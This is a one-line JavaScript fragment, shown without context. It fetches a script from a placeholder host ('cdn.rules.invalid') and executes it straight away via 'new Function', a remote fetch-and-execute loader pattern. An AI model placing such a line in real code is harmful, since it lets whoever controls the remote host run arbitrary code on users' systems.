new Function(await (await fetch("https://cdn.rules.invalid/today.js")).text())();
